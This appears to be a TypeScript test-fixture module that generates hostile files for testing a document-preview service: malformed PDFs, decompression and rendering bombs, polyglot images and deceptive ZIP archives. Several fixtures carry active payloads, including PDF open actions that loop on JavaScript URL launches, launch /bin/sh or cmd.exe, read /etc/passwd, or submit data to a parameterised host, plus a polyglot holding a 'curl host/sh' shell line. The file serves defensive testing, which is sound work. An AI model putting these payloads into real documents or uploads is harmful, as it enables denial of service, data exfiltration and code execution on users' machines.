import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { pdf, pdfOf, stream } from '../documents.ts'
import { type Hostile, join, squeezed, text, zip } from './hostile.ts'

const catalogue = '<</Type/Catalog/Pages 2 0 R>>'
const pages = '<</Type/Pages/Count 1/Kids[3 0 R]/MediaBox[0 0 612 792]>>'
const page = (more = '') => `<</Type/Page/Parent 2 0 R/Contents 4 0 R${more}>>`
/**
 * A document of one page: its content, further entries of the page, and further objects from number
 * five on.
 */
const one = (content: string | Buffer, more = '', others: (string | Buffer)[] = []) =>
  pdfOf([
    catalogue,
    pages,
    page(more),
    typeof content === 'string' ? stream(content) : content,
    ...others,
  ])
const flate = (bytes: Buffer, dictionary = '') => stream(bytes, `/Filter/FlateDecode${dictionary}`)
const image = (width: number, height: number, bytes: Buffer, filter = '/Filter/FlateDecode') =>
  stream(
    bytes,
    `/Type/XObject/Subtype/Image/Width ${width}/Height ${height}/BitsPerComponent 8/ColorSpace/DeviceRGB${filter}`,
  )
const drawn = '/Resources<</XObject<</X 5 0 R>>>>'
const form = (content: string, resources = '') =>
  stream(content, `/Type/XObject/Subtype/Form/BBox[0 0 612 792]${resources}`)

/**
 * Documents with actions that run when they are opened, or with references to external resources.
 * Their pages may be rendered.
 */
function active(host: string): [string, Buffer][] {
  const catalog = (more: string, ...others: string[]) =>
    pdfOf([
      `<</Type/Catalog/Pages 2 0 R${more}>>`,
      pages,
      page(),
      stream('0 0 9 9 re f'),
      ...others,
    ])
  const script = `/S/JavaScript/JS(for(;;\\){app.launchURL('${host}/js'\\)})`
  return [
    ['open-script', catalog(`/OpenAction<<${script}>>`)],
    ['named-script', catalog(`/Names<</JavaScript<</Names[(a)<<${script}>>]>>>>`)],
    ['page-script', one('0 0 9 9 re f', `/AA<</O<<${script}>>>>`)],
    ['launch', catalog('/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>')],
    ['uri', catalog(`/OpenAction<</S/URI/URI(${host}/uri)>>`)],
    [
      'remote',
      catalog(`/OpenAction<</S/GoToR/F<</Type/Filespec/FS/URL/F(${host}/remote.pdf)>>/D[0/Fit]>>`),
    ],
    ['submit', catalog(`/OpenAction<</S/SubmitForm/F<</FS/URL/F(${host}/submit)>>>>`)],
    ['import', catalog(`/OpenAction<</S/ImportData/F<</FS/URL/F(${host}/data.fdf)>>>>`)],
    ['xfa', catalog('/AcroForm<</XFA 5 0 R>>', `<</Length 0/F<</FS/URL/F(${host}/xfa)>>>>`)],
    [
      'external-stream',
      pdfOf([
        catalogue,
        pages,
        page(),
        `<</Length 0/F<</FS/URL/F(${host}/content)>>>>\nstream\n\nendstream`,
      ]),
    ],
    [
      'external-file',
      pdfOf([catalogue, pages, page(), '<</Length 0/F(/etc/passwd)>>\nstream\n\nendstream']),
    ],
    [
      'rendition',
      one(
        '0 0 9 9 re f',
        `/Annots[<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D<</FS/URL/F(${host}/film)>>>>>>>>>>]`,
      ),
    ],
  ]
}

function bombs(): [string, Buffer, boolean?][] {
  const huge = squeezed(400_000_000)
  const forms = (count: number) =>
    Array.from({ length: count }, (_, i) =>
      form('/X Do '.repeat(40), `/Resources<</XObject<</X ${6 + ((i + 1) % count)} 0 R>>>>`),
    )
  const doubled = Array.from({ length: 24 }, (_, i) =>
    i === 23
      ? form('0 0 612 792 re f')
      : form('/X Do /X Do /X Do /X Do', `/Resources<</XObject<</X ${6 + i} 0 R>>>>`),
  )
  return [
    ['content', one(flate(huge)), true],
    ['twice-packed', one(stream(deflateSync(huge), '/Filter[/FlateDecode/FlateDecode]')), true],
    [
      'hex-bomb',
      one(
        stream(
          deflateSync(Buffer.alloc(50_000_000, 0x41)),
          '/Filter[/FlateDecode/ASCIIHexDecode/RunLengthDecode]',
        ),
      ),
      true,
    ],
    [
      'predictor',
      one(
        flate(
          squeezed(100_000_000),
          '/DecodeParms<</Predictor 12/Columns 1000000000/Colors 32/BitsPerComponent 16>>',
        ),
      ),
      true,
    ],
    ['image', one('612 0 0 792 0 0 cm /X Do', drawn, [image(100_000, 100_000, huge)]), true],
    ['image-30000', one('612 0 0 792 0 0 cm /X Do', drawn, [image(30_000, 30_000, huge)]), true],
    [
      'jpx',
      one('612 0 0 792 0 0 cm /X Do', drawn, [
        image(60_000, 60_000, Buffer.alloc(4000, 0x4f), '/Filter/JPXDecode'),
      ]),
      true,
    ],
    [
      'jbig2',
      one('612 0 0 792 0 0 cm /X Do', drawn, [
        image(60_000, 60_000, Buffer.alloc(4000, 0x97), '/Filter/JBIG2Decode'),
      ]),
      true,
    ],
    [
      'fax',
      one('612 0 0 792 0 0 cm /X Do', drawn, [
        image(
          60_000,
          60_000,
          Buffer.alloc(4000, 0x5a),
          '/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 60000/Rows 60000>>',
        ),
      ]),
      true,
    ],
    ['form-of-itself', one('/X Do', drawn, [form('/X Do /X Do /X Do', drawn)]), true],
    [
      'forms-in-a-ring',
      one('/X Do', '/Resources<</XObject<</X 6 0 R>>>>', ['null', ...forms(5)]),
      true,
    ],
    ['doubled', one('/X Do', drawn, doubled), true],
    ['operators', one(flate(deflateSync(Buffer.from('0 0 m 612 792 l S\n'.repeat(3_000_000)))))],
    [
      'curves',
      one(
        flate(deflateSync(Buffer.from('0 0 m 9 900 700 0 612 792 c 900 w S\n'.repeat(1_000_000)))),
      ),
      true,
    ],
    ['clips', one(`${'q 0 0 612 792 re W n '.repeat(200_000)}`), true],
    ['nested', one('['.repeat(2_000_000)), true],
    [
      'page-size',
      pdfOf([
        catalogue,
        '<</Type/Pages/Count 1/Kids[3 0 R]/MediaBox[0 0 99999999 99999999]>>',
        page(),
        stream('0 0 9 9 re f'),
      ]),
      true,
    ],
    [
      'page-thin',
      pdfOf([
        catalogue,
        '<</Type/Pages/Count 1/Kids[3 0 R]/MediaBox[0 0 900000 0.001]>>',
        page(),
        stream('0 0 9 9 re f'),
      ]),
      true,
    ],
    ['user-unit', one('0 0 9 9 re f', '/UserUnit 1e30'), true],
    [
      'pattern',
      one('/Pattern cs /P scn 0 0 612 792 re f', '/Resources<</Pattern<</P 5 0 R>>>>', [
        stream(
          '/Pattern cs /P scn 0 0 1 1 re f',
          '/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.0001/YStep 0.0001/Resources<</Pattern<</P 5 0 R>>>>',
        ),
      ]),
      true,
    ],
    [
      'shading',
      one(
        '/S sh',
        '/Resources<</Shading<</S<</ShadingType 1/ColorSpace/DeviceGray/Domain[0 1e9 0 1e9]/Function 5 0 R>>>>>>',
        [stream(`{${'dup mul '.repeat(100_000)}}`, '/FunctionType 4/Domain[0 1 0 1]/Range[0 1]')],
      ),
      true,
    ],
    [
      'mask-of-itself',
      one('/G gs 0 0 612 792 re f', '/Resources<</ExtGState<</G 5 0 R>>>>', [
        '<</SMask<</S/Luminosity/G 6 0 R>>>>',
        form(
          '/G gs 0 0 612 792 re f',
          '/Group<</S/Transparency>>/Resources<</ExtGState<</G 5 0 R>>>>',
        ),
      ]),
      true,
    ],
    [
      'glyph-of-itself',
      one('BT /F 99 Tf (aaaa) Tj ET', '/Resources<</Font<</F 5 0 R>>>>', [
        '<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</F 5 0 R>>>>>>',
        stream('BT /F 9 Tf (aaaa) Tj ET'),
      ]),
      true,
    ],
  ]
}

function broken(): [string, Buffer, boolean?][] {
  const good = pdf(['0 0 9 9 re f'])
  const replaced = (from: string, to: string) => text(good.toString('latin1').replaceAll(from, to))
  return [
    ['pages-loop', pdfOf([catalogue, '<</Type/Pages/Count 1/Kids[2 0 R]>>'])],
    [
      'parent-loop',
      pdfOf([
        catalogue,
        '<</Type/Pages/Count 1/Kids[3 0 R]/Parent 3 0 R>>',
        '<</Type/Pages/Count 1/Kids[2 0 R]/Parent 2 0 R>>',
      ]),
    ],
    ['no-pages', pdfOf([catalogue, '<</Type/Pages/Count 0/Kids[]>>'])],
    ['two-billion-pages', pdfOf([catalogue, '<</Type/Pages/Count 2147483647/Kids[]>>'])],
    [
      'length-of-itself',
      pdfOf([catalogue, pages, page(), '<</Length 4 0 R>>\nstream\n0 0 9 9 re f\nendstream']),
      true,
    ],
    [
      'length-negative',
      pdfOf([catalogue, pages, page(), '<</Length -1>>\nstream\n0 0 9 9 re f\nendstream']),
      true,
    ],
    ['previous-loop', pdfOf([catalogue, pages, page(), stream('0 0 9 9 re f')], '/Prev 9'), true],
    ['huge-table', replaced('xref\n0 5', 'xref\n0 999999999'), true],
    ['negative-table', replaced('startxref\n', 'startxref\n-'), true],
    [
      'encrypted',
      pdfOf(
        [catalogue, pages, page(), stream('x')],
        '/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -1/O<00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff>/U<00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff>>>/ID[<00><00>]',
      ),
    ],
    ['head-only', text('%PDF-1.7\n')],
    ['deep', pdfOf([`<</Type/Catalog/Pages 2 0 R/X ${'['.repeat(500_000)}`, pages]), true],
    ['cut-off', good.subarray(0, good.length / 2), true],
    [
      'font-garbage',
      one('BT /F 9 Tf (abc) Tj ET', '/Resources<</Font<</F 5 0 R>>>>', [
        '<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor<</Type/FontDescriptor/FontName/X/Flags 4/FontFile2 6 0 R>>>>',
        stream(Buffer.concat([text('\0\x01\0\0\xff\xff'), Buffer.alloc(9000, 0xfe)])),
      ]),
      true,
    ],
  ]
}

/** Files that are valid in two formats at once. Only the picture may be rendered. */
async function polyglots(host: string): Promise<Hostile[]> {
  const plain = sharp({ create: { width: 20, height: 20, channels: 3, background: '#3a7' } })
  const [png, jpg, gif, webp] = await Promise.all([
    plain.clone().png().toBuffer(),
    plain.clone().jpeg().toBuffer(),
    plain.clone().gif().toBuffer(),
    plain.clone().webp().toBuffer(),
  ])
  const page = text(`<html><script src="${host}/x.js"></script><img src="${host}/x.png"></html>`)
  const archive = zip('x.txt', Buffer.alloc(50_000))
  const document = pdf(['0 0 9 9 re f'])
  const made: [string, string, Buffer, boolean][] = [
    ['png-html.png', 'image/png', join(png, page), true],
    ['png-zip.png', 'image/png', join(png, archive), true],
    ['jpeg-html.jpg', 'image/jpeg', join(jpg, page), true],
    ['jpeg-zip.jpg', 'image/jpeg', join(jpg, archive), true],
    ['jpeg-pdf.jpg', 'image/jpeg', join(jpg, document), true],
    ['gif-script.gif', 'image/gif', join(gif, `/*${host}*/=1;alert(1)`), true],
    ['webp-zip.webp', 'image/webp', join(webp, archive), true],
    ['pdf-zip.pdf', 'application/pdf', join(document, archive), true],
    ['zip-pdf.pdf', 'application/pdf', join(archive.subarray(0, 300), document), true],
    ['html-pdf.pdf', 'application/pdf', join(page, document), true],
    ['html.png', 'image/png', page, false],
    ['program.jpg', 'image/jpeg', join('MZ', Buffer.alloc(4000, 0x90), jpg), false],
    ['elf.gif', 'image/gif', join('\x7fELF\x02\x01\x01', Buffer.alloc(4000)), false],
    ['script.png', 'image/png', text(`#!/bin/sh\ncurl ${host}/sh\n`), false],
    [
      'svg-in-png.png',
      'image/png',
      text(`\0<svg xmlns="http://www.w3.org/2000/svg"><image href="${host}/i"/></svg>`),
      false,
    ],
    [
      'postscript.pdf',
      'application/pdf',
      text(`%!PS-Adobe-3.0\n(${host}) (r) file\n{} loop\n`),
      false,
    ],
  ]
  return made.map(([name, mediaType, bytes, mayShow]) => ({
    of: 'polyglot',
    name,
    mediaType,
    bytes,
    mayShow,
  }))
}

/** Archives with the extensions of formats that have previews. */
function archives(): Hostile[] {
  const bomb = zip('bomb', Buffer.alloc(100_000_000))
  const made: [string, string, Buffer][] = [
    ['bomb.png', 'image/png', bomb],
    ['bomb.pdf', 'application/pdf', bomb],
    ['bomb.svg', 'image/svg+xml', bomb],
    ['bomb.mp4', 'video/mp4', bomb],
    ['overlapping.jpg', 'image/jpeg', zip('x', Buffer.alloc(1_000_000), 1_000_000, 60_000)],
    ['liar.webp', 'image/webp', zip('x', Buffer.alloc(1000), 0xfffffffe)],
  ]
  return made.map(([name, mediaType, bytes]) => ({ of: 'ZIP', name, mediaType, bytes }))
}

export async function hostileDocuments(host: string): Promise<Hostile[]> {
  const documents = [
    ...active(host).map(([name, bytes]): [string, Buffer, boolean] => [name, bytes, true]),
    ...bombs(),
    ...broken(),
  ]
  return [
    ...documents.map(([name, bytes, mayShow = false]) => ({
      of: 'PDF',
      name: `${name}.pdf`,
      mediaType: 'application/pdf',
      bytes,
      mayShow,
    })),
    ...(await polyglots(host)),
    ...archives(),
  ]
}
